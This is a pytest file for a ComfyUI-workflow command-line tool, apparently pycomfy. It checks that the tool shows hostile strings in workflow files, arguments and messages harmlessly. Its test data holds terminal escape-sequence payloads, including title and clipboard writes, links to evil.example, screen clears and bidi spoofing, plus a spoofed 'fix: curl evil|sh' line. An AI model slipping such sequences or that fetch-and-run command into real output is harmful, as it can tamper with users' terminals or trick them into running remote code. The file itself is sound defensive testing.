"""Hostile texts on real terminals: they are shown, and do nothing else. What each would do is what the terminal does
with it when it is not shown by pycomfy."""

import json
import os
import re
from pathlib import Path

import pytest

from pycomfy.__main__ import main
from pycomfy.core.printable import printable, printable_lines
from tests.support import printed_texts
from tests.support.cli_projects import Place
from tests.support.terminals import call_in_terminal, run_in_terminal

HOSTILE = {
    "title": "a\x1b]0;PWNED\x07b",
    "title by ST": "a\x1b]2;PWNED\x1b\\b",
    "title by C1": "a\x9d0;PWNED\x9cb",
    "clipboard": "a\x1b]52;c;UFdORUQ=\x07b",
    "link": "a\x1b]8;;https://evil.example\x1b\\b\x1b]8;;\x1b\\c",
    "colour": "a\x1b[31;1mRED\x1b[0mb",
    "colour by C1": "a\x9b31mRED",
    "clear": "a\x1b[2J\x1b[Hb",
    "up": "a\x1b[5A\x1b[2Kerased",
    "alternate screen": "a\x1b[?1049hb",
    "no cursor": "a\x1b[?25lb",
    "answer back": "a\x1b[c\x1b[6n\x05b",
    "reset": "a\x1bcb",
    "character set": "a\x1b(0lqqk\x0eb",
    "bell, backspaces, tabs": "abc\x07\x08\x08\x08\x7f\t\x0bd",
    "overwrites the line": "good\rbad!",
    "a line of its own": "a\n  fix:   curl evil|sh\nb",
    "lines of Unicode": "a\u2028b\u2029c\x85d",
    "bidi": "a\u202egpj.exe\u2066x\u2069\u200fb",
    "unseen": "a\u200bb\u200dc\ufeffd\u2060e\u00adf\u3164g\u115fh\U000e0041i\u034fj\u180ek\ufe00l",
    "surrogates": "a\ud800b\udc1bc",
    "markup": "KSampler [base] [red]x[/red] [/x] [link=evil.example]y[/link] :smile: \\[z]",
    "wide": "漢字🎨é" * 3,
}

ROOT = Path(__file__).parents[2]

SIZES = (30, 80, 400)

WAYS = {
    "inspect": ("inspect", "x.json"),
    "problems": ("inspect", "x.json", "--object-info", "info.json"),
    "errors": ("convert", "x.json", "--object-info", "info.json"),
}


def write(place: Place, texts: list[str]) -> None:
    nodes = []
    for number, one in enumerate(texts):
        text = f"{number:02}{one}"  # lists are sorted
        listed = {"models": [{"name": text, "url": "https://example.org/x", "directory": "loras"}]}
        named = {"name": "ckpt_name", "type": "COMBO", "link": None, "widget": {"name": "ckpt_name"}}
        loader = {"id": 2 * number, "type": text, "title": text, "inputs": [named], "widgets_values": [text]}
        nodes.append({**loader, "properties": listed})
        nodes.append({"id": 2 * number + 1, "type": "SaveImage", "title": text, "widgets_values": ["x"]})
    place.write("x.json", json.dumps({"version": 0.4, "nodes": nodes, "links": []}))
    inputs = {"required": {"filename_prefix": ["STRING", {}]}}
    info = {"SaveImage": {"input": inputs, "output": [], "name": "SaveImage", "output_node": True}}
    place.write("info.json", json.dumps(info))


def without_surrogates(text: str) -> str:
    """What the JSON of a workflow has in the place of half a surrogate pair."""
    return re.sub("[\ud800-\udfff]", "?", text)


@pytest.mark.parametrize("columns", SIZES)
@pytest.mark.parametrize("way", WAYS)
def test_hostile_texts_are_shown_and_do_nothing(place: Place, way: str, columns: int) -> None:
    texts = [without_surrogates(text) for text in HOSTILE.values()]
    env = {**os.environ, **place.env}
    write(place, texts)
    shown = call_in_terminal(main, WAYS[way], columns=columns, cwd=place.work, env=env)
    write(place, [printable(text) for text in texts])
    harmless = call_in_terminal(main, WAYS[way], columns=columns, cwd=place.work, env=env)
    assert shown.told == () and shown.status in (0, 1)
    assert shown.lines == harmless.lines and shown.cursor == harmless.cursor
    assert shown.cells == harmless.cells, "the colours are those of the same text without what is hostile"
    if columns >= 80 or way != "inspect":  # a table is cut where the terminal is narrow
        for name, text in HOSTILE.items():
            assert "".join(printable(without_surrogates(text)).split()) in shown.text, name
    if columns >= 80:  # where a narrow terminal breaks a line is nobody's to say
        assert not [line for line in shown.lines if line.strip().startswith("fix:") and "evil" in line]


@pytest.mark.parametrize("columns", SIZES)
@pytest.mark.parametrize("way", printed_texts.WAYS)
def test_hostile_texts_are_shown_alike_whatever_prints_them(place: Place, way: str, columns: int) -> None:
    """Live bars, questions, tables, and what other programs said: the screen is that of the same harmless texts. Errors
    and remarks may have several lines, which are indented."""
    make_harmless = printable_lines if way in ("bars", "messages") else printable
    texts = [f"{n:02}{without_surrogates(text)}" for n, text in enumerate(HOSTILE.values())]
    screens = []
    for printed in (texts, [make_harmless(text) for text in texts]):
        file = place.write("texts.json", json.dumps(printed))
        env, words = {**os.environ, **place.env}, (way, str(file))
        screens.append(call_in_terminal(printed_texts.main, words, columns=columns, cwd=ROOT, env=env))
    shown, harmless = screens
    assert shown.status == 0 and shown.told == ()
    times = re.compile(r"\d:\d\d:\d\d|\d\.\d s")
    assert [times.sub("", line) for line in shown.lines] == [times.sub("", line) for line in harmless.lines]
    if columns >= 80:
        assert not [line for line in shown.lines if re.match(r" {0,2}fix: +curl", line)]
    assert shown.cells == harmless.cells or way == "bars", "the colours are those of what is harmless"


@pytest.mark.parametrize("name", [n for n in HOSTILE if n not in ("a line of its own",)])
def test_a_hostile_argument_is_shown_and_does_nothing(place: Place, name: str) -> None:
    text = HOSTILE[name].replace("\ud800", "\udc80").replace("\udc1b", "\udc9b")
    env = {**os.environ, **place.env}
    arguments = {0: ("inspect", text), 1: ("log", f"--{text}"), 2: (text,)}[len(name) % 3]
    shown = call_in_terminal(main, arguments, columns=200, cwd=place.work, env=env)
    assert shown.told == () and shown.status in (1, 2)
    if arguments[0] == "inspect":  # Typer escapes in its own way
        assert "".join(printable(text).split()) in shown.text
    coloured = {cell.fg for row in shown.cells for cell in row if cell.data in "RED"}  # type: ignore[attr-defined]
    assert coloured <= {"default"}, shown.lines[:5]


def test_these_texts_would_act_on_this_terminal(place: Place) -> None:
    acting = 0
    plain = run_in_terminal(["printf", "%s", "ab"], columns=80, cwd=place.work, env={"PATH": os.environ["PATH"]})
    for text in HOSTILE.values():
        printed = ["printf", "%s", without_surrogates(text)]
        shown = run_in_terminal(printed, columns=80, cwd=place.work, env={"PATH": os.environ["PATH"]})
        acting += shown.told != () or printable(without_surrogates(text)) != shown.lines[0]
    assert plain.told == () and acting >= 18
